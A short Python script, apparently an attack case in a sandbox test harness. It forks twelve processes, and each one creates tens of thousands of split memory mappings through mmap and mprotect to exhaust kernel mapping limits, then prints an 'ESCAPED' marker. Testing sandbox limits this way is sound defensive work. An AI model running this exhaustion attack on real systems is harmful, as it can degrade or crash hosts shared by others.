import ctypes
import mmap
import os
import time

from attacker import finish

libc = ctypes.CDLL(None)
mprotect, page = libc.mprotect, mmap.PAGESIZE
mprotect.argtypes = ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int
libc.mmap.restype = ctypes.c_void_p


def split():
    start = libc.mmap(None, 65_000 * page, 0, 0x22, -1, 0)
    for at in range(start, start + 65_000 * page, 2 * page):
        if mprotect(at, page, 1):
            break


children = []
for _ in range(12):
    pid = os.fork()
    if pid == 0:
        split()
        time.sleep(0.6)
        os._exit(0)
    children.append(pid)
for _ in children:
    os.wait()
print("ESCAPED: 12 times 65,000 mappings of 320 bytes", flush=True)
finish()
